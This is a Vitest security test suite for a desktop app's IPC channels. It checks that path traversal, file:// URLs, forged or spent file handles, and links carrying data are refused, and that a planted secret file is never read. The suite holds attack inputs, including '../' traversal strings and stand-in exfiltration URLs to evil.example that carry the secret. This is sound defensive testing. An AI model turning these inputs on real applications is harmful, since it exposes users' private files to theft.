import { randomBytes } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DROPPED_FILE_CHANNEL, allChannels } from '../../../src/shared/contract'
import type { ImportSettings } from '../../../src/shared/import/outcome'
import type { FileRef, ListedBackup, RecentWorkspace } from '../../../src/shared/types'
import { channelSamples, probeCalls } from '../../helpers/channel-samples'
import { writeCsv } from '../../helpers/import'
import { createLoopback, type Loopback } from '../../helpers/loopback'

/**
 * The probe of issue 17 through the real handlers, with a trusted sender (as a compromised page would
 * have): every channel of the contract, with every string it takes replaced by a path, a file:// URL,
 * `..` segments, a forged handle or a spent one. Where the string names a file (or a link to open) the
 * call is refused with a clear one-line error; wherever it goes, the planted secret file is never read:
 * its content appears in no response, no import, no switch of workspace.
 */

const SECRET = 'TOP-SECRET-7731'

let loop: Loopback
let dir: string
let secretPath: string
let legit: string
let responses: string[]

const { call, data, chosen } = probeCalls(
  () => loop,
  () => legit,
  (_, res) => responses.push(JSON.stringify(res)),
)

beforeAll(async () => {
  // One folder for the whole file (the helper's folders go after each test).
  dir = mkdtempSync(join(tmpdir(), 'tandem-probe-'))
  const secrets = join(dir, 'secrets')
  mkdirSync(secrets)
  // A file that would import cleanly, so reading it anywhere would show its content.
  secretPath = writeCsv(secrets, 'secret.csv', [
    ['Opportunity ID', 'Opportunity Name', 'Stage', 'Amount', 'Close Date'],
    [SECRET, SECRET, 'Closed Won', '1000', '2025-08-14'],
  ])
  legit = writeCsv(dir, 'deals.csv', [
    ['Opportunity ID', 'Opportunity Name', 'Stage', 'Amount', 'Close Date'],
    ['006A1', 'Acme renewal', 'Closed Won', '12500', '2025-08-14'],
  ])
  const app = join(dir, 'app')
  mkdirSync(app)
  loop = await createLoopback({ dir: app, appUrl: 'http://tandem.test/' })
  responses = []
})
afterAll(() => {
  loop.close()
  rmSync(dir, { recursive: true, force: true })
})

/** Dotted paths of every string in a value (`1.file`, `0.mapping.amount.header`). */
function stringLeaves(value: unknown, at = ''): string[] {
  if (typeof value === 'string') return [at]
  if (value === null || typeof value !== 'object') return []
  return Object.entries(value).flatMap(([k, v]) => stringLeaves(v, at === '' ? k : `${at}.${k}`))
}
function replaced(args: unknown[], leaf: string, by: string): unknown[] {
  const copy = structuredClone(args)
  const keys = leaf.split('.')
  let node = copy as unknown as Record<string, unknown>
  for (const k of keys.slice(0, -1)) node = node[k] as Record<string, unknown>
  node[keys[keys.length - 1]!] = by
  return copy
}

describe('the page never names a file', () => {
  it('every channel, every string it takes: paths, file:// URLs, .. segments, forged and spent handles are refused and read nothing', async () => {
    const table = await channelSamples(data, chosen)
    expect(Object.keys(table).sort()).toEqual(
      allChannels()
        .map((c) => c.channel)
        .sort(),
    )

    // A spent handle (its import was committed) and a retired one (another file was chosen since).
    const spentRef = await chosen()
    const { settings } = await data<{ settings: ImportSettings }>('import:inspect', [spentRef.handle])
    await data('import:commit', ['job-probe-spend', { ...settings, file: spentRef.handle }])
    const retired = await chosen()
    await chosen()
    const workspaceBefore = loop.workspace.path
    const batchesBefore = (await data<unknown[]>('import:history', [])).length

    const attacks: Record<string, string> = {
      path: secretPath,
      'file URL': `file://${secretPath}`,
      'dot segments': `${dir}/app/../secrets/./secret.csv`,
      'relative dot segments': `../../../../../../../..${secretPath}`,
      'forged handle': `fh_${randomBytes(16).toString('base64url')}`,
      'spent handle': spentRef.handle,
      'retired handle': retired.handle,
    }
    let probed = 0
    for (const { channel, args: schema } of allChannels()) {
      const sample = table[channel]
      // The sample is a valid call, so each refusal below is the attack's doing.
      expect(schema.safeParse(sample.args).success, `${channel}'s sample must be valid`).toBe(true)
      const leaves = stringLeaves(sample.args)
      for (const name of sample.names) expect(leaves, channel).toContain(name)
      for (const [what, attack] of Object.entries(attacks)) {
        // Tacked on as an extra argument: no channel takes one.
        const extra = await call(channel, [...sample.args, attack])
        expect(extra, `${channel} + ${what}`).toMatchObject({ ok: false, code: 'BAD_ARGS' })
        for (const leaf of leaves) {
          // Any dialog a call opens (saving a preview's invalid rows) is cancelled.
          loop.dialogs.answers.splice(0, Infinity, null)
          const res = await call(channel, replaced(sample.args, leaf, attack))
          probed++
          if (sample.names.includes(leaf)) {
            expect(res.ok, `${channel} (${leaf} = ${what}) must be refused`).toBe(false)
            expect(['BAD_ARGS', 'FILE_HANDLE', 'NOT_FOUND', 'URL_REFUSED'], `${channel} (${leaf} = ${what})`).toContain(res.code)
            expect(res.message).toMatch(/^[^\n]{10,200}$/)
            expect(res.message).toMatch(/file handle|choose|drop|recent workspaces|backups|link/i)
          }
        }
      }
    }
    loop.dialogs.answers.length = 0
    expect(probed).toBeGreaterThan(100)
    expect(loop.opened).toEqual([]) // no link was even offered to the user
    for (const r of responses) expect(r).not.toContain(SECRET)
    expect(loop.workspace.path).toBe(workspaceBefore)
    const batches = await data<{ fileName: string }[]>('import:history', [])
    expect(batches.map((b) => b.fileName)).not.toContain(basename(secretPath))
    expect(batches.length).toBeGreaterThanOrEqual(batchesBefore)
    expect(loop.errors).toEqual([]) // every refusal was a clear one, none an internal error
  }, 120_000)

  it('the private drop channel is not a channel of the page, and takes a path only from the app', async () => {
    expect(await loop.invoke(DROPPED_FILE_CHANNEL, [secretPath])).toMatchObject({ ok: false, code: 'BAD_ARGS' })
    expect(await loop.registerDropped(secretPath, 'https://evil.example/')).toMatchObject({ ok: false, code: 'UNTRUSTED_SENDER' })
    const dropped = (await loop.registerDropped(legit)) as { ok: true; data: FileRef }
    expect(dropped).toMatchObject({ ok: true })
    expect(dropped.data).toEqual({ handle: expect.stringMatching(/^fh_/), name: 'deals.csv' })
    expect(await data('import:inspect', [dropped.data.handle])).toMatchObject({ fileName: 'deals.csv' })
  })

  it('a backup id of another workspace, or a recent workspace no longer listed, opens nothing', async () => {
    const backup = await data<ListedBackup>('backups:create', [])
    const first = loop.workspace.path
    loop.dialogs.answers.push(join(dir, 'app', 'second.sqlite'))
    await data('workspace:create', [])
    expect(await call('backups:restore', [backup.id])).toMatchObject({ ok: false, code: 'NOT_FOUND' })
    const recent = await data<RecentWorkspace[]>('workspace:recent', [])
    const old = recent.find((r) => r.name === basename(first))!
    expect(JSON.stringify(recent)).not.toContain(dir) // names, never paths
    loop.prefs.forgetWorkspace(first)
    expect(await call('workspace:openRecent', [old.id])).toMatchObject({ ok: false, code: 'NOT_FOUND' })
    expect(loop.workspace.path).toBe(join(dir, 'app', 'second.sqlite'))
  })

  it('a link the page asks to open: never with a query string, and only once the user confirms', async () => {
    for (const url of [`https://evil.example/?d=${SECRET}`, `mailto:x@evil.example?body=${SECRET}`, `https://evil.example/#${SECRET}`]) {
      expect(await call('app:openExternal', [url])).toMatchObject({ ok: false, code: 'URL_REFUSED' })
    }
    expect(loop.opened).toEqual([])
    loop.confirmExternal = false
    expect(await data('app:openExternal', ['https://docs.example.com/help'])).toBe(false)
    loop.confirmExternal = true
    expect(await data('app:openExternal', ['https://docs.example.com/help'])).toBe(true)
    expect(loop.opened).toEqual(['https://docs.example.com/help', 'https://docs.example.com/help'])
  })
})
